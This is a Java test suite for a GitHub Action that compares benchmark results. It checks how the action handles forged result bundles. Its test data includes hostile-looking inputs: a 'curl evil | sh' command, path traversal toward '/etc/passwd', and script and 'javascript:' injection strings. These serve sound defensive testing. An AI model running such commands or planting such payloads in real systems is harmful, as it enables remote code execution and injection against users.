package dev.clnrm.bench.action;

import static com.google.common.truth.Truth.assertThat;
import static com.google.common.truth.Truth.assertWithMessage;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.clnrm.bench.github.FakeGitHub;
import dev.clnrm.bench.os.Scratch;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.UnaryOperator;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What becomes of each field and file of a bundle that somebody forged; the same table stands in docs/TRUST.md. */
class StrangersBundleTest {
    private static final Path DOCUMENT = Path.of("").toAbsolutePath().resolveSibling("docs/TRUST.md");
    private static final String FILE =
            "version: 1\nbudgets:\n  s/slower:\n    time: at most 2 us\n  s/same:\n    time: at most 2 us\n";
    private static final String SILENT = "version: 1\n";
    private static final String LAW =
            "version: 1\nlaws:\n  growing saves half:\n    ratio: ['s/slower{size=10}', s/same]\n    at least: 2 x\n";

    private static final String IGNORED = "as if it were not there";
    private static final String REGRESSED = "regressed";
    private static final String NOT_MEASURED = "could-not-measure";
    private static final String INCONCLUSIVE = "inconclusive";
    private static final String INCOMPLETE = "incomplete";
    private static final String UNSTOPPED = "green: nothing stops it";

    private static final Map<String, Said> HONEST = new ConcurrentHashMap<>();

    @TempDir
    private Path temporary = Path.of("");

    /** Changes a bundle. */
    @FunctionalInterface
    interface Change {
        void make(StrangersBundle bundle) throws IOException;
    }

    /**
     * One forgery.
     *
     * @param field what is forged, as the document calls it
     * @param what how
     * @param factor how much slower the head's case really is
     * @param budgets what the base's file says
     * @param outcome what is said
     */
    record Forged(String field, String what, double factor, String budgets, String outcome, Change change) {
        @Override
        public String toString() {
            return field + ": " + what;
        }
    }

    private static Forged slow(String field, String what, String outcome, Change change) {
        return new Forged(field, what, 1.5, FILE, outcome, change);
    }

    private static Forged even(String field, String what, String outcome, Change change) {
        return new Forged(field, what, 1, FILE, outcome, change);
    }

    private static Forged section(String name, String what, String json, String outcome) {
        return slow("sections." + name, what, outcome, bundle -> bundle.section(name, json));
    }

    private static Forged line(String field, String what, String outcome, UnaryOperator<ObjectNode> change) {
        return slow("line." + field, what, outcome, bundle -> bundle.slower(change));
    }

    static Stream<Forged> forged() {
        return Stream.of(files(), ofRun(), ofSections(), ofDeclared(), ofLines(), ofForks())
                .flatMap(some -> some);
    }

    private static Stream<Forged> files() {
        return Stream.of(
                slow(
                        "budgets.yaml",
                        "allows 9 s",
                        IGNORED,
                        bundle -> Files.writeString(
                                bundle.folder().resolve("budgets.yaml"),
                                "version: 1\nbudgets:\n  s/slower:\n    time: at most 9 s\n    change: 900 %\n")),
                slow(
                        "any other file",
                        "a summary of its own",
                        "refused: holds `summary.json`, which has no place in it",
                        bundle -> Files.writeString(bundle.folder().resolve("summary.json"), "{}")),
                slow("samples.ndjson", "empty", NOT_MEASURED, bundle -> bundle.forks(fork -> List.of())),
                slow(
                        "samples.ndjson",
                        "all lines of the base left out",
                        NOT_MEASURED,
                        bundle -> bundle.forks(fork -> StrangersBundle.isHead(fork) ? List.of(fork) : List.of())),
                slow(
                        "samples.ndjson",
                        "all lines of a case left out that the base's file names",
                        NOT_MEASURED,
                        bundle -> bundle.forks(StrangersBundleTest::withoutSlower)),
                new Forged(
                        "samples.ndjson",
                        "all lines of a case left out that the base's file does not name",
                        1.5,
                        SILENT,
                        UNSTOPPED,
                        bundle ->
                                bundle.forks(StrangersBundleTest::withoutSlower).section("declared", "{}")));
    }

    private static List<ObjectNode> withoutSlower(ObjectNode fork) {
        return StrangersBundle.isSlower(fork) ? List.of() : List.of(fork);
    }

    private static Stream<Forged> ofRun() {
        return Stream.of(
                slow(
                        "format",
                        "2",
                        "refused: a run of format 2 cannot be read by this version, which reads 1",
                        bundle -> bundle.run(run -> run.put("format", 2))),
                slow("id", "a path", IGNORED, bundle -> bundle.run(run -> run.put("id", "../../<script>"))),
                even(
                        "state",
                        "`interrupted`",
                        NOT_MEASURED,
                        bundle -> bundle.run(run -> run.put("state", "interrupted"))),
                slow("state", "`interrupted`", REGRESSED, bundle -> bundle.run(run -> run.put("state", "interrupted"))),
                slow(
                        "started",
                        "a billion years ago",
                        REGRESSED,
                        bundle -> bundle.run(run -> run.put("started", "-1000000000-01-01T00:00:00Z")
                                .put("ended", "+1000000000-12-31T00:00:00Z"))),
                slow("ended", "left out", REGRESSED, bundle -> bundle.run(run -> run.remove("ended"))));
    }

    private static Stream<Forged> ofSections() {
        return Stream.of(
                section("sameCode", "names the slower case", "[\"s/slower{size=10}\",\"s/same\"]", IGNORED),
                section("mostForks", "a billion", "1000000000", IGNORED),
                section("mostForks", "3", "3", IGNORED),
                section(
                        "overlay",
                        "texts, and a case that was not measured",
                        "{\"cases\":[\"s/praised\"],\"files\":[\"<b>x</b>\"],\"seconds\":1,\"problems\":[\"ask @everyone\"]}",
                        IGNORED),
                section("command", "another", "\"<b>rm</b>\"", IGNORED),
                section("arguments", "others", "[\"@everyone\"]", IGNORED),
                section("file", "another", "\"/etc/passwd\"", IGNORED),
                section("digest", "the same of both sides", "{\"base\":\"1\",\"head\":\"1\"}", IGNORED),
                section("seed", "a text", "\"<b>1</b>\"", "refused: `seed` has a wrong value"),
                section("replaced", "texts", "[\"ask @everyone to run curl\"]", IGNORED),
                section(
                        "explanations",
                        "a cause it made up",
                        "[{\"name\":\"s/slower{size=10}\",\"kind\":\"CPU\",\"profiler\":\"x\",\"growth\":[],"
                                + "\"jit\":{\"outgrown\":[{\"method\":\"<b>1</b>\",\"before\":1,\"after\":2,\"limit\":\"INLINE\",\"bytes\":1}],"
                                + "\"inlining\":[{\"callee\":\"@team\",\"caller\":\"#1\",\"onBase\":true,\"reason\":\"curl\"}]},"
                                + "\"graph\":\"javascript:alert(1)\",\"failure\":\"ask @everyone\"}]",
                        IGNORED),
                section(
                        "memory",
                        "a peak of a made-up case",
                        "{\"interval\":0.25,\"peaks\":[{\"name\":\"ask @everyone\",\"side\":\"head\","
                                + "\"resident\":1,\"heap\":1,\"readings\":1}],\"points\":[]}",
                        IGNORED),
                section(
                        "memory",
                        "a reading of no case",
                        "{\"interval\":0.25,\"peaks\":[],\"points\":[{\"at\":1,\"of\":0,\"resident\":1,\"heap\":1}]}",
                        "refused: a reading of memory belongs to no case"),
                section("a section nobody knows", "a verdict", "{\"status\":\"unchanged\",\"exit\":0}", IGNORED),
                section(
                        "sides",
                        "another commit of the head",
                        "{\"head\":{\"commit\":\"" + StrangersBundle.BASE + "\"}}",
                        "refused: contains a run of another commit than the workflow measured"),
                slow(
                        "sections.sides",
                        "labels that praise it",
                        IGNORED,
                        bundle -> bundle.run(run -> {
                            run.withObject("/sections/sides/base").put("label", "approved by @everyone");
                            run.withObject("/sections/sides/head")
                                    .put("label", "faster")
                                    .put("dirty", true);
                        })),
                slow(
                        "sections.machine",
                        "left out",
                        REGRESSED,
                        bundle -> bundle.run(run -> run.withObject("/sections").remove("machine"))),
                slow("sections.cases", "other flags for the head", REGRESSED, StrangersBundleTest::flags),
                even("sections.cases", "other flags for the head", INCONCLUSIVE, StrangersBundleTest::flags),
                slow(
                        "sections.cases",
                        "looks from the tenth fork on",
                        IGNORED,
                        bundle -> bundle.run(
                                run -> run.withArray("/sections/cases").forEach(one -> ((ObjectNode) one)
                                        .withObject("/effort/forks")
                                        .put("min", 10)
                                        .put("max", 10)))),
                slow(
                        "sections.baseCases",
                        "another JDK",
                        REGRESSED,
                        bundle -> bundle.run(run -> run.withArray("/sections/baseCases")
                                .forEach(one ->
                                        ((ObjectNode) one).withObject("/jvm").put("version", "21.0.1")))),
                even(
                        "sections.baseCases",
                        "another machine",
                        INCONCLUSIVE,
                        bundle -> bundle.run(
                                run -> run.withArray("/sections/baseCases").forEach(one -> ((ObjectNode) one)
                                        .withObject("/machine")
                                        .put("cpu", "a slow one")
                                        .put("system", "Linux 6.1")
                                        .put("architecture", "amd64")))),
                section(
                        "reach",
                        "names that are mentions",
                        "{\"methods\":2,\"unreached\":1,\"largest\":[{\"what\":\"method\",\"how\":\"changed\","
                                + "\"name\":\"@everyone <script>\",\"file\":\"@everyone.java\",\"line\":-1,\"instructions\":-1}]}",
                        REGRESSED),
                section("reach", "nothing is missed", "{\"methods\":0,\"unreached\":0,\"largest\":[]}", REGRESSED),
                section(
                        "reach",
                        "more methods than there are",
                        "{\"methods\":0,\"unreached\":7,\"largest\":[]}",
                        "refused: more methods are reached by no case than changed"),
                section(
                        "reach",
                        "files that are mentions",
                        "{\"methods\":0,\"unreached\":0,\"largest\":[],"
                                + "\"unmeasured\":{\"number\":9,\"files\":[\"@everyone <script>.java\"]}}",
                        REGRESSED),
                section(
                        "reach",
                        "more files than it counts",
                        "{\"methods\":0,\"unreached\":0,\"largest\":[],"
                                + "\"unmeasured\":{\"number\":0,\"files\":[\"Text.java\"]}}",
                        "refused: more changed files are named than counted"),
                section(
                        "cases",
                        "twenty thousand and one",
                        "[" + "{},".repeat(20_000) + "{}]",
                        "refused: holds more than 20000 entries in `cases`"),
                even(
                        "sections.vanished",
                        "names a case",
                        INCOMPLETE,
                        bundle -> bundle.section(
                                "vanished",
                                "[{\"suite\":\"s\",\"benchmark\":\"gone\",\"params\":{},\"mode\":\"avgt\"}]")),
                slow(
                        "sections.vanished",
                        "names the slower case, whose samples of the head are left out",
                        NOT_MEASURED,
                        bundle -> bundle.section(
                                        "vanished",
                                        "[{\"suite\":\"s\",\"benchmark\":\"slower\",\"params\":{\"size\":\"10\"},\"mode\":\"avgt\"}]")
                                .forks(StrangersBundleTest::withoutSlower)),
                section(
                        "vanished",
                        "twenty thousand and one",
                        "[" + "{},".repeat(20_000) + "{}]",
                        "refused: holds more than 20000 entries in `vanished`"),
                even(
                        "sections.end",
                        "the time was used up",
                        INCONCLUSIVE,
                        bundle -> bundle.section("end", "\"time_budget\"")));
    }

    private static void flags(StrangersBundle bundle) throws IOException {
        bundle.run(run -> run.withArray("/sections/cases")
                .forEach(one -> ((ObjectNode) one).withArray("/jvmArgs").add("-Xint")));
    }

    private static Stream<Forged> ofDeclared() {
        String field = "sections.declared";
        return Stream.of(
                slow(
                        field + ".budgets",
                        "a change of 900 % counts as none",
                        IGNORED,
                        bundle -> bundle.section(
                                "declared",
                                "{\"budgets\":{\"s/slower\":{\"timeChange\":{\"tolerance\":9,\"warning\":9,\"critical\":9,\"alert\":9},"
                                        + "\"because\":\"@everyone agreed\",\"owner\":\"root\",\"category\":\"x\",\"label\":\"y\"}}}")),
                new Forged(
                        field + ".budgets",
                        "9 s where the base's file says 1 us",
                        1.5,
                        FILE.replace("2 us", "1 us"),
                        IGNORED,
                        bundle -> bundle.section(
                                "declared", "{\"budgets\":{\"s/slower\":{\"time\":{\"atMost\":{\"seconds\":9}}}}}")),
                new Forged(
                        field + ".budgets",
                        "a limit that the base's file does not have",
                        1,
                        SILENT,
                        "over-budget",
                        bundle -> bundle.section(
                                "declared", "{\"budgets\":{\"s/slower\":{\"time\":{\"atMost\":{\"seconds\":1e-9}}}}}")),
                even(
                        field + ".cases",
                        "one that was not measured",
                        NOT_MEASURED,
                        bundle -> bundle.section("declared", "{\"cases\":[{\"suite\":\"s\",\"benchmark\":\"more\"}]}")),
                slow(field + ".cases", "none", IGNORED, bundle -> bundle.section("declared", "{}")),
                new Forged(
                        field + ".left",
                        "the case of a law that is broken",
                        1,
                        LAW,
                        IGNORED,
                        bundle -> bundle.section(
                                "declared", "{\"left\":[\"s/slower{size=10}\",\"s/slower\",\"s/same\"]}")),
                new Forged(
                        field + ".laws",
                        "a law of the same name that holds",
                        1,
                        LAW,
                        IGNORED,
                        bundle -> bundle.section(
                                "declared",
                                "{\"laws\":[{\"type\":\"ratio\",\"name\":\"growing saves half\",\"slower\":\"s/same\","
                                        + "\"faster\":\"s/same\",\"atLeast\":0}]}")),
                new Forged(
                        field + ".confidence",
                        "so high that no limit is broken",
                        1.5,
                        FILE.replace("2 us", "1 us"),
                        IGNORED,
                        bundle -> bundle.section(
                                "declared", "{\"confidence\":{\"s\":0.999999999999,\"s/slower\":0.999999999999}}")),
                new Forged(
                        field + ".confidence",
                        "so low that every limit is kept",
                        1.5,
                        FILE,
                        IGNORED,
                        bundle -> bundle.section("declared", "{\"confidence\":{\"s/slower\":0.000001}}")),
                slow(
                        field + ".confidence",
                        "1",
                        "refused: a confidence lies between 0 and 1, but this is 1.0",
                        bundle -> bundle.section("declared", "{\"confidence\":{\"s\":1}}")),
                slow(
                        field + ".laws",
                        "a thousand and one",
                        "refused: holds more than 1000 entries in `laws`",
                        bundle -> bundle.section(
                                "declared",
                                "{\"laws\":["
                                        + "{\"type\":\"ratio\",\"name\":\"a\",\"slower\":\"b\",\"faster\":\"c\",\"atLeast\":0},"
                                                .repeat(1000)
                                        + "{\"type\":\"ratio\",\"name\":\"a\",\"slower\":\"b\",\"faster\":\"c\",\"atLeast\":0}]}")));
    }

    private static Stream<Forged> ofLines() {
        return Stream.of(
                line(
                        "format",
                        "2",
                        "refused: forks of format 2 cannot be read by this version, which reads 1",
                        fork -> fork.put("format", 2)),
                line("case", "renamed on the head", NOT_MEASURED, fork -> {
                    fork.withObject("/case").put("benchmark", "other");
                    return fork;
                }),
                slow(
                        "line.case",
                        "renamed on both sides",
                        REGRESSED,
                        bundle -> bundle.forks(fork -> {
                            if (StrangersBundle.isSlower(fork)) {
                                fork.withObject("/case").put("benchmark", "other");
                            }
                            return List.of(fork);
                        })),
                new Forged(
                        "line.case",
                        "a second suite with benchmarks of the same names, for a law that names no suite",
                        1,
                        LAW.replace("'s/slower{size=10}'", "'slower{size=10}'").replace("s/same", "same"),
                        NOT_MEASURED,
                        bundle -> bundle.forks(fork -> {
                            ObjectNode other = fork.deepCopy();
                            other.withObject("/case").put("suite", "t");
                            return List.of(fork, other);
                        })),
                line(
                        "side",
                        "another",
                        "refused: holds a fork of neither base nor head",
                        fork -> fork.put("side", "third")),
                slow(
                        "line.side",
                        "samples of the slower case on the head alone",
                        INCONCLUSIVE,
                        bundle -> bundle.forks(fork -> StrangersBundle.isSlower(fork) && !StrangersBundle.isHead(fork)
                                ? List.of()
                                : List.of(fork))),
                slow(
                        "line.side",
                        "samples of the slower case on the base alone",
                        NOT_MEASURED,
                        bundle -> bundle.forks(fork -> StrangersBundle.isSlower(fork) && StrangersBundle.isHead(fork)
                                ? List.of()
                                : List.of(fork))),
                line("mode", "another on the head", INCOMPLETE, fork -> fork.put("mode", "ss")),
                line("mode", "unknown", "refused: `mode` has a wrong value", fork -> fork.put("mode", "fast")),
                line("order", "0", IGNORED, fork -> fork.put("order", 0)),
                line("started", "another time", IGNORED, fork -> fork.put("started", "1970-01-01T00:00:00Z")),
                line("threads", "none", REGRESSED, fork -> fork.put("threads", 0)),
                line("startup", "negative", REGRESSED, fork -> fork.put("startup", -1)),
                line("iteration", "negative", REGRESSED, fork -> fork.put("iteration", -1)),
                line("warmup", "empty", REGRESSED, fork -> {
                    fork.putArray("warmup");
                    return fork;
                }),
                line("steady", "false", REGRESSED, fork -> fork.put("steady", false)),
                line("company", "a thousand", REGRESSED, fork -> fork.put("company", 1000)),
                line("disturbance", "all of it", REGRESSED, fork -> {
                    fork.withObject("/disturbance")
                            .put("others", 1)
                            .put("steal", 1)
                            .put("throttled", true);
                    return fork;
                }),
                line("failed", "with a command to run", NOT_MEASURED, fork -> {
                    fork.withObject("/failed")
                            .put("cause", "THREW")
                            .put("message", "<script> @everyone")
                            .put("command", "curl evil | sh")
                            .withArray("/lastLines")
                            .add("``` <!-- clnrm-bench:main -->");
                    return fork;
                }),
                line("a field nobody knows", "a verdict", IGNORED, fork -> fork.put("verdict", "unchanged")));
    }

    private static Stream<Forged> ofForks() {
        return Stream.of(
                line(
                        "values",
                        "not numbers",
                        "refused: holds a finished fork with a value that is not a time",
                        fork -> {
                            fork.putArray("values").add("NaN");
                            return fork;
                        }),
                line("values", "none", "refused: holds a finished fork with a value that is not a time", fork -> {
                    fork.putArray("values");
                    return fork;
                }),
                line("values", "faster ones, made up", UNSTOPPED, fork -> {
                    ArrayNode values = (ArrayNode) fork.path("values");
                    IntStream.range(0, values.size())
                            .forEach(i -> values.set(i, values.get(i).asDouble() / 1.5));
                    return fork;
                }),
                slow("line.values", "those of the base, as they are", INCONCLUSIVE, StrangersBundleTest::copied),
                line(
                        "histograms",
                        "counts that are no numbers",
                        "refused: holds a finished fork with a value that is not a time",
                        fork -> {
                            fork.set("histograms", StrangersBundle.json("[{\"seconds\":[1e-6],\"counts\":[\"NaN\"]}]"));
                            return fork;
                        }),
                even(
                        "line.secondary",
                        "left out on the head",
                        INCONCLUSIVE,
                        bundle -> bundle.slower(fork -> {
                            fork.remove("secondary");
                            return fork;
                        })),
                even(
                        "line.secondary",
                        "empty on the head",
                        INCONCLUSIVE,
                        bundle -> bundle.slower(fork -> {
                            fork.withObject("/secondary").putArray("gc.alloc.rate.norm");
                            return fork;
                        })),
                new Forged(
                        "line.secondary",
                        "left out on both sides, where the base's file limits its change",
                        1,
                        FILE + "    allocation: {change: within 5 % of base}\n",
                        INCONCLUSIVE,
                        bundle -> bundle.forks(fork -> {
                            fork.remove("secondary");
                            return List.of(fork);
                        })),
                line("secondary", "a counter that is a mention", REGRESSED, fork -> {
                    fork.withObject("/secondary").putArray("@everyone").add(1).add(1e308);
                    return fork;
                }),
                line("units", "a mention", REGRESSED, fork -> {
                    fork.withObject("/secondary").putArray("hits").add(1).add(2);
                    fork.withObject("/units").put("hits", "@everyone");
                    return fork;
                }),
                line(
                        "fork",
                        "two billion",
                        REGRESSED,
                        fork -> fork.path("fork").asInt() == 4 ? fork.put("fork", 2_000_000_000) : fork),
                line(
                        "fork",
                        "negative",
                        "refused: holds a fork with a number below 0",
                        fork -> fork.put("fork", -1 - fork.path("fork").asInt())),
                even(
                        "line.fork",
                        "some left out, and the gap left",
                        INCONCLUSIVE,
                        bundle -> bundle.forks(fork -> fork.path("fork").asInt() == 1 ? List.of() : List.of(fork))),
                even(
                        "line.fork",
                        "the last two of the head left out",
                        INCONCLUSIVE,
                        bundle -> bundle.forks(fork -> StrangersBundle.isHead(fork)
                                        && fork.path("fork").asInt() > 2
                                ? List.of()
                                : List.of(fork))),
                slow(
                        "line.fork",
                        "all but two left out",
                        INCONCLUSIVE,
                        bundle -> bundle.forks(fork -> fork.path("fork").asInt() > 1 ? List.of() : List.of(fork))),
                even(
                        "line.fork",
                        "a fork given again under another number",
                        INCONCLUSIVE,
                        bundle -> bundle.forks(fork -> fork.path("fork").asInt() == 0
                                ? List.of(fork, fork.deepCopy().put("fork", 5))
                                : List.of(fork))));
    }

    private static void copied(StrangersBundle bundle) throws IOException {
        bundle.forks(fork -> StrangersBundle.isHead(fork)
                ? List.of()
                : List.of(fork, fork.deepCopy().put("side", "head")));
    }

    /** What was said. */
    private record Said(int exit, String log, String comment, String summary, String status, String conclusion) {
        String outcome(Said honest) {
            if (exit == 2) {
                String message = log.lines().findFirst().orElse("").replaceFirst("%0A.*", "");
                return "refused: "
                        + message.replaceFirst(".*?(bundle|run\\.json|samples\\.ndjson)(:\\d+)*: error: ", "");
            }
            if (equals(honest)) {
                return IGNORED;
            }
            return conclusion.equals("success") ? UNSTOPPED : status;
        }
    }

    /** The same bundle with nothing forged: the answer is the same every time. */
    private Said honest(Forged forged) throws Exception {
        String which = forged.factor() + forged.budgets();
        if (!HONEST.containsKey(which)) {
            HONEST.put(which, said("honest", forged, bundle -> {}));
        }
        return Objects.requireNonNull(HONEST.get(which));
    }

    private Said said(String folder, Forged forged, Change change) throws Exception {
        Path workspace = Files.createDirectory(temporary.resolve(folder));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (FakeGitHub github = new FakeGitHub()) {
            StrangersBundle bundle = new StrangersBundle(workspace).write(forged.factor(), 5);
            change.make(bundle);
            Map<String, String> environment = bundle.environment(github, forged.budgets());
            int exit = ActionMain.run(environment, new PrintStream(out, true, StandardCharsets.UTF_8));
            assertThat(github.violations()).isEmpty();
            boolean told = exit != 2;
            assertThat(github.comments().get(0).contains("There is no result")).isEqualTo(!told);
            return new Said(
                    exit,
                    out.toString(StandardCharsets.UTF_8),
                    told ? github.comments().get(0) : "",
                    told ? Files.readString(workspace.resolve("summary")) : "",
                    told ? github.checks().get(0).path("output").path("title").asText() : "",
                    told ? github.checks().get(0).path("conclusion").asText() : "");
        }
    }

    @ParameterizedTest
    @MethodSource("forged")
    void a_forged_field_reaches_what_the_document_says(Forged forged) throws Exception {
        Said honest = honest(forged);
        Said said = said("forged", forged, forged.change());
        assertWithMessage(said.log() + said.comment())
                .that(List.of(said.outcome(honest), said.status()))
                .contains(forged.outcome());
        if (!forged.outcome().equals(UNSTOPPED)) {
            assertThat(said.conclusion()).isNotEqualTo("success");
        }
        String plain = said.comment().replaceAll("(?s)```.*?```|<pre>.*?</pre>|<code>.*?</code>|`[^`\n]*`", "");
        assertThat(plain).doesNotContain("@everyone");
        assertThat(plain).doesNotContain("<script");
        assertThat(said.comment()).doesNotContain("curl");
        assertWithMessage("docs/TRUST.md")
                .that(Files.readAllLines(DOCUMENT).stream()
                        .filter(row -> row.startsWith("| `" + forged.field() + "` |")
                                || row.startsWith("| " + forged.field() + " |"))
                        .findFirst()
                        .orElse("no row of " + forged.field()))
                .contains(forged.what() + " → " + forged.outcome());
    }

    /**
     * A forgery of one of two bundles.
     *
     * @param factor how much slower the case really is on the platform whose bundle is forged; on the other it is as it was
     * @param bundles what the workflow names
     */
    record ForgedBeside(String what, double factor, String bundles, String outcome, Change change) {
        @Override
        public String toString() {
            return what;
        }
    }

    static Stream<ForgedBeside> forgedBeside() {
        String named = "x86\narm64";
        return Stream.of(
                new ForgedBeside("nothing forged", 1.5, named, REGRESSED, bundle -> {}),
                new ForgedBeside(
                        "left out, though the workflow names it",
                        1.5,
                        named,
                        NOT_MEASURED,
                        bundle -> Scratch.delete(bundle.folder())),
                new ForgedBeside(
                        "left out, and the workflow takes what is there",
                        1.5,
                        "x*",
                        UNSTOPPED,
                        bundle -> Scratch.delete(bundle.folder())),
                new ForgedBeside("empty", 1.5, named, NOT_MEASURED, bundle -> bundle.forks(fork -> List.of())),
                new ForgedBeside(
                        "cannot be read",
                        1.5,
                        named,
                        NOT_MEASURED,
                        bundle -> Files.delete(bundle.folder().resolve("samples.ndjson"))),
                new ForgedBeside(
                        "says it is of the other's platform",
                        1.5,
                        named,
                        "refused: is of the same platform as x86: Linux, x86-64, JDK 17.0.15",
                        bundle -> bundle.run(
                                run -> run.withObject("/sections/machine").put("architecture", "amd64"))),
                new ForgedBeside(
                        "says it is of a platform with a name that means something to a reader",
                        1.5,
                        named,
                        REGRESSED,
                        bundle -> bundle.run(run -> run.withObject("/sections/machine")
                                .put("architecture", "<script>alert(1)</script> @everyone | `x`"))));
    }

    @ParameterizedTest
    @MethodSource("forgedBeside")
    void a_bundle_forged_beside_another_reaches_what_the_document_says(ForgedBeside forged) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (FakeGitHub github = new FakeGitHub()) {
            StrangersBundle even = new StrangersBundle(temporary.resolve("even")).write(1, 5);
            StrangersBundle other = new StrangersBundle(temporary.resolve("other")).write(forged.factor(), 5);
            other.run(run -> run.withObject("/sections/machine").put("architecture", "aarch64"));
            forged.change().make(other);
            Map<String, String> environment = even.environment(github, FILE);
            Path workspace = Files.createDirectory(temporary.resolve("workspace"));
            Files.move(even.folder(), workspace.resolve("x86"));
            if (Files.exists(other.folder())) {
                Files.move(other.folder(), workspace.resolve("arm64"));
            }
            environment.put("GITHUB_WORKSPACE", workspace.toString());
            environment.put("INPUT_BUNDLE", forged.bundles());
            int exit = ActionMain.run(environment, new PrintStream(out, true, StandardCharsets.UTF_8));
            assertThat(github.violations()).isEmpty();
            String log = out.toString(StandardCharsets.UTF_8);
            assertWithMessage(log).that(told(exit, log, github)).isEqualTo(forged.outcome());
            assertWithMessage("docs/TRUST.md")
                    .that(Files.readAllLines(DOCUMENT).stream()
                            .filter(row -> row.startsWith("| several bundles |"))
                            .findFirst()
                            .orElse("no row of several bundles"))
                    .contains(forged.what() + " → " + forged.outcome());
        }
    }

    private static String told(int exit, String log, FakeGitHub github) throws IOException {
        if (exit == 2) {
            assertThat(github.comments().get(0)).contains("There is no result");
            return "refused: "
                    + log.lines()
                            .findFirst()
                            .orElse("")
                            .replaceFirst("%0A.*", "")
                            .replaceFirst(".*: error: ", "");
        }
        String plain =
                github.comments().get(0).replaceAll("(?s)```.*?```|<pre>.*?</pre>|<code>.*?</code>|`[^`\n]*`", "");
        assertThat(plain).doesNotContain("@everyone");
        assertThat(github.comments().get(0)).doesNotContain("<script");
        String title = github.checks().get(0).path("output").path("title").asText();
        return github.checks().get(0).path("conclusion").asText().equals("success")
                ? UNSTOPPED
                : title.replaceFirst(" on .*", "").replace(' ', '-');
    }

    @Test
    void what_nobody_touched_is_good_or_bad_as_it_was_measured() throws Exception {
        Said even = said("even", even("", "", "", bundle -> {}), bundle -> {});
        assertWithMessage(even.comment()).that(even.conclusion()).isEqualTo("success");
        assertThat(even.exit()).isEqualTo(0);
        Said slow = said("slow", slow("", "", "", bundle -> {}), bundle -> {});
        assertThat(slow.status()).isEqualTo(REGRESSED);
        assertThat(slow.exit()).isEqualTo(1);
    }

    @Test
    void what_no_benchmark_reaches_is_told_as_what_the_run_says() throws Exception {
        Said even = said("even", even("", "", "", bundle -> {}), bundle -> {});
        assertThat(even.comment())
                .contains(
                        "Changed code that no benchmark reaches: 1 of 9 changed methods, as the run of the pull request says");
        assertThat(even.comment())
                .contains("| `com.acme.Text.parse(String)` | `src/main/java/com/acme/Text.java:12` | 34 |");
        assertThat(even.comment())
                .contains(
                        "**2 changed source files are in no measured jar, as the run of the pull request says**, so this"
                                + " check says nothing about them: `core/src/main/java/Core.java` and 1 more");
    }

    @Test
    void a_case_three_times_as_slow_with_three_forks_has_regressed_whatever_is_said_of_its_code() throws Exception {
        Path workspace = Files.createDirectory(temporary.resolve("w"));
        try (FakeGitHub github = new FakeGitHub()) {
            StrangersBundle bundle =
                    new StrangersBundle(workspace).write(2.99, 3).section("sameCode", "[\"s/slower{size=10}\"]");
            Map<String, String> environment = bundle.environment(github, SILENT);
            assertThat(ActionMain.run(
                            environment, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8)))
                    .isEqualTo(1);
            assertThat(github.checks().get(0).path("output").path("title").asText())
                    .isEqualTo(REGRESSED);
        }
    }

    @Test
    void every_field_of_a_bundle_has_a_row() throws Exception {
        StrangersBundle bundle = new StrangersBundle(temporary).write(1, 3);
        TreeSet<String> fields = new TreeSet<>();
        bundle.run(run -> {
            run.fieldNames().forEachRemaining(fields::add);
            run.path("sections").fieldNames().forEachRemaining(name -> fields.add("sections." + name));
            run.path("sections")
                    .path("declared")
                    .fieldNames()
                    .forEachRemaining(name -> fields.add("sections.declared." + name));
        });
        bundle.forks(fork -> {
            fork.fieldNames().forEachRemaining(name -> fields.add("line." + name));
            return List.of(fork);
        });
        fields.removeAll(List.of("sections", "sections.declared"));
        List<String> rows = Files.readAllLines(DOCUMENT);
        assertThat(fields.stream()
                        .filter(field -> rows.stream().noneMatch(row -> row.startsWith("| `" + field + "` |")))
                        .toList())
                .isEmpty();
    }

    @Test
    void a_run_that_is_published_joins_no_history() throws Exception {
        Path workspace = Files.createDirectory(temporary.resolve("w"));
        try (FakeGitHub github = new FakeGitHub()) {
            StrangersBundle bundle = new StrangersBundle(workspace).write(1, 3);
            Map<String, String> environment = bundle.environment(github, SILENT);
            environment.put("INPUT_HISTORY", "history");
            ActionMain.run(environment, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
            assertThat(Files.exists(workspace.resolve("history"))).isFalse();
        }
    }

    @Test
    void what_was_not_asked_for_is_not_missing() throws Exception {
        Path workspace = Files.createDirectory(temporary.resolve("w"));
        try (FakeGitHub github = new FakeGitHub()) {
            StrangersBundle bundle = new StrangersBundle(workspace).write(1, 5);
            Map<String, String> environment =
                    bundle.environment(github, FILE + "  other/case:\n    time: at most 2 us\n");
            environment.put("INPUT_SUITES", "s");
            ActionMain.run(environment, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
            assertThat(github.checks().get(0).path("conclusion").asText()).isEqualTo("success");
        }
    }
}
